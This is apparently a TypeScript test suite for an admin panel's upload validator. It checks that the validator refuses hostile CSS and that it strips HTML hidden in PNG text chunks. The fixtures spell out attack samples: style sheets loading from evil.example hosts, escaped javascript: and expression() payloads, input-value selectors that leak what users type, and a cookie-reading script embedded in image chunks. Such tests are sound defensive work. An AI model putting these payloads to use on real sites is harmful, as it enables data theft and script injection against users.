// Hostile uploads served from the panel's origin: style sheets that import foreign sheets, run script, load from
// another host or select on input values are refused, an accepted one is served sandboxed, and a logo keeps only
// the chunks a picture needs (HTML hidden in a text chunk never reaches disk).
import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { chunk } from '../../scripts/lib/png.ts';
import { cssProblem, pngSize } from '../../server/crud/file-checks.ts';
import { css, HD, png, whitelabelForm } from './catalogue-fixtures.ts';
import { forEachDialect } from './harness.ts';

/** A valid PNG with `extra` chunks inserted after IHDR. */
function withChunks(source: Buffer, ...extra: Buffer[]): Buffer {
  const ihdrEnd = 8 + 12 + 13;
  return Buffer.concat([source.subarray(0, ihdrEnd), ...extra, source.subarray(ihdrEnd)]);
}

const PAGE = '<html><body><script>alert(document.cookie)</script></body></html>';

it('names the reason a style sheet is refused, escapes decoded', () => {
  expect(cssProblem('@import url(https://evil.example.com/x.css);\nbody { color: red }')).toBe(
    'imports another sheet with @import (line 1); put its rules in this file',
  );
  expect(cssProblem('body {}\n@\\69mport "x.css";')).toContain('@import (line 2)');
  expect(cssProblem('a { background: url(javascript:alert(1)) }')).toBe('names a javascript: URL (line 1)');
  expect(cssProblem('a { background: url(" java\\73 cript:alert(1)") }')).toBe('names a javascript: URL (line 1)');
  expect(cssProblem('a { width: expression(alert(1)) }')).toBe('uses expression() (line 1), which runs script');
  expect(cssProblem('a { width: expr\\65 ssion(alert(1)) }')).toContain('expression()');
  expect(cssProblem('a { behavior: url(x.htc) }')).toContain('behavior');
  expect(cssProblem('a { -moz-binding: url(x.xml#x) }')).toContain('-moz-binding');
  expect(cssProblem('a { color: red')).toBe('is not a CSS style sheet');
  expect(cssProblem('/* nothing but a comment */')).toBe('is not a CSS style sheet');
});

it('accepts ordinary CSS: images by path on this server, data images and fonts, media queries, custom properties', () => {
  for (const sheet of [
    'body { background: url(/img/bg.png) no-repeat; }',
    '.logo { background-image: url("../logo.png"), url(data:image/png;base64,iVBORw0KGgo=); }',
    '@font-face { font-family: Tv; src: url(fonts/tv.woff2) format("woff2"), url(data:font/woff2;base64,d09GMg==); }',
    '.hd { background-image: image-set("logo.png" 1x, "logo@2x.png" 2x); } .f { filter: url(#shadow); }',
    '@media (min-width: 1920px) { :root { --gap: 24px; } .grid { gap: var(--gap); } }',
    '.note::after { content: "see https://example.com"; } input[type="text"], a[data-value^="x"], a[title=value] { color: red; }',
  ]) {
    expect(cssProblem(sheet), sheet).toBeUndefined();
  }
});

it('refuses what can send a page\'s contents to another host: remote URLs in any form, selectors on input values', () => {
  const remote = 'from another host (line 1); use paths of this server or data: images';
  for (const [sheet, problem] of [
    ['a { background: url(https://evil.example/a) }', `loads https://evil.example/a ${remote}`],
    ['a { background: url("//evil.example/a") }', `loads //evil.example/a ${remote}`],
    ['a { background: url("/\\\\evil.example/a") }', `loads /\\evil.example/a ${remote}`],
    ['a { background: \\75rl(https://evil.example/a) }', `loads https://evil.example/a ${remote}`],
    ['a { background: URL( " HTTPS://evil.example/a" ) }', `loads https://evil.example/a ${remote}`],
    ['a { background: image-set("https://evil.example/a.png" 1x) }', `loads https://evil.example/a.png ${remote}`],
    ['a { background: -webkit-image-set(url(https://evil.example/a.png) 1x) }', `loads https://evil.example/a.png ${remote}`],
    ['@font-face { font-family: x; src: url(https://evil.example/f.woff) }', `loads https://evil.example/f.woff ${remote}`],
    ['@font-face { font-family: x; src: src("https://evil.example/f.woff") }', `loads https://evil.example/f.woff ${remote}`],
    ['a { background: url(data:text/html,x) }', 'names a data: URL that is no image or font (data:text/html,x) (line 1); use paths of this server or data: images'],
    ['input[value^="a"] { background: url(/a) }', 'selects on an input\'s value with [value] (line 1), which can send what a user types elsewhere'],
    ['input[ VALUE $= "a" ] { color: red }', 'selects on an input\'s value with [VALUE] (line 1), which can send what a user types elsewhere'],
    ['[*|value] { color: red }', 'selects on an input\'s value with [value] (line 1), which can send what a user types elsewhere'],
    ['form:has(input[v\\61lue*="x"]) { color: red }', 'selects on an input\'s value with [v\\61lue] (line 1), which can send what a user types elsewhere'],
  ]) {
    expect(cssProblem(sheet), sheet).toBe(problem);
  }
});

forEachDialect('hostile files', (h) => {
  const add = (name: string, change: Parameters<typeof whitelabelForm>[1]) =>
    h.admin('POST', '/v1/admin/whitelabel/add', { form: whitelabelForm(name, change) });

  for (const [what, sheet, message] of [
    ['an @import of a foreign sheet', '@import url("https://evil.example.com/steal.css");\nbody { color: red; }', '@import'],
    ['a javascript: URL', 'body { background: url(javascript:alert(1)); }', 'javascript: URL'],
    ['an escaped javascript: URL', 'body { background: url("\\6a avascript:alert(1)"); }', 'javascript: URL'],
    ['expression()', 'body { width: expression(alert(1)); }', 'expression()'],
    ['a selector that leaks what is typed', 'input[value^="a"] { background: url(https://evil.example/a); }', 'an input\'s value'],
    ['an image from another host', 'body { background: url(https://evil.example/bg.png); }', 'from another host'],
    ['a font from another host', '@font-face { font-family: x; src: url(https://evil.example/x.woff2); }', 'from another host'],
  ] as const) {
    it(`refuses a style sheet with ${what} with 400 naming the CSS field, and stores no whitelabel`, async () => {
      const before = await h.count('whitelabels');
      const reply = await add('hostilecss', { cssConfig: css(sheet) });
      expect(reply.status).toBe(400);
      expect(reply.body.message).toMatch(/^CSS /);
      expect(reply.body.message).toContain(message);
      expect(reply.body.fields).toEqual([{ field: 'cssConfig', message: reply.body.message }]);
      expect(await h.count('whitelabels')).toBe(before);
    });
  }

  it('serves an accepted style sheet as text/css under a sandbox policy, so opened directly it is no page of the panel', async () => {
    const sheet = 'body { background: url(../../hd.png); }';
    expect((await add('sandboxcss', { cssConfig: css(sheet) })).status).toBe(200);
    const served = await h.app.inject({ url: '/whitelabels/sandboxcss/styles/indexHtml.css' });
    expect(served.body).toBe(sheet);
    expect(served.headers['content-type']).toBe('text/css; charset=utf-8');
    expect(served.headers['content-security-policy']).toBe('sandbox');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });

  it('stores a logo without its text chunks: HTML hidden in tEXt, zTXt or iTXt is never served', async () => {
    const logo = withChunks(
      HD(),
      chunk('tEXt', Buffer.from(`Comment\0${PAGE}`, 'latin1')),
      chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(PAGE)])),
      chunk('iTXt', Buffer.from(`Comment\0\0\0en\0\0${PAGE}`, 'utf8')),
      chunk('prVt', Buffer.from(PAGE)),
    );
    expect(logo.toString('latin1')).toContain('<script>');
    const reply = await add('textchunk', { imageHD: png(logo) });
    expect(reply.status).toBe(200);
    const served = (await h.app.inject({ url: '/whitelabels/textchunk_1280x720.png' })).rawPayload;
    expect(served.toString('latin1')).not.toContain('<script>');
    expect(served.toString('latin1')).not.toMatch(/tEXt|zTXt|iTXt|prVt/);
    expect(pngSize(served)).toEqual({ width: 1280, height: 720 });
    expect(served.equals(HD())).toBe(true);
  });

  it('refuses a PNG whose image data does not match its header', async () => {
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(1280, 0);
    ihdr.writeUInt32BE(720, 4);
    ihdr[8] = 8;
    ihdr[9] = 2;
    const liar = Buffer.concat([
      HD().subarray(0, 8),
      chunk('IHDR', ihdr),
      chunk('IDAT', deflateSync(Buffer.from(PAGE))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    const reply = await add('liar', { imageHD: png(liar) });
    expect(reply.status).toBe(400);
    expect(reply.body.message).toBe('Logo 1280x720 (PNG) is not a PNG image');
  });
});
